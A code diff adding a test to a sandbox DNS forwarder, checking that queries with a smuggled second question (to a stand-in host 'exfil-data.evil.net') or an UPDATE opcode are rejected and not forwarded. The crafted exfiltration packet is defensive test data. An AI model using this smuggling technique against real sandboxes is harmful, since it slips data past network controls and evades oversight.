@@ -61,6 +61,32 @@ def test_resolve_under_policies() -> None:
     assert seen == [("198.18.0.9", 90)]  # at least the TTL, at least a minute
 
 
+def test_only_a_query_of_one_question_is_forwarded() -> None:
+    """A sandbox allowed one domain cannot smuggle a second question (or an update)
+    past the check to the upstream resolver, nor its answers into the allow-list."""
+    fwd = dns.DnsForwarder.__new__(dns.DnsForwarder)
+    forwarded: list[bytes] = []
+    seen: list = []
+
+    def forward(q: bytes) -> bytes:
+        forwarded.append(q)
+        return _answer(q, "198.18.0.9", 5)
+
+    fwd._forward = forward  # type: ignore[method-assign]
+    allow = NetworkPolicy(allow_domains=("*.wild.org",))
+    q = _query("api.wild.org")
+    second = _query("exfil-data.evil.net")[12:]
+    two = q[:4] + struct.pack("!H", 2) + q[6:] + second
+    reply = dns.DnsForwarder.resolve(fwd, allow, seen.extend, two)
+    assert reply[:2] == q[:2] and reply[3] & 15 == dns.FORMERR
+    update = q[:2] + struct.pack("!H", 5 << 11) + q[4:]  # opcode 5: UPDATE
+    reply = dns.DnsForwarder.resolve(fwd, allow, seen.extend, update)
+    assert reply[3] & 15 == dns.NOTIMP
+    assert forwarded == [] and seen == []
+    assert dns.a_records(dns.DnsForwarder.resolve(fwd, allow, seen.extend, q))  # one: it goes
+    assert forwarded == [q]
+
+
 def test_upstreams(tmp_path) -> None:  # noqa: ANN001
     conf = tmp_path / "resolv.conf"
     conf.write_text("# x\nnameserver 10.0.0.2\nnameserver fe80::1\n")
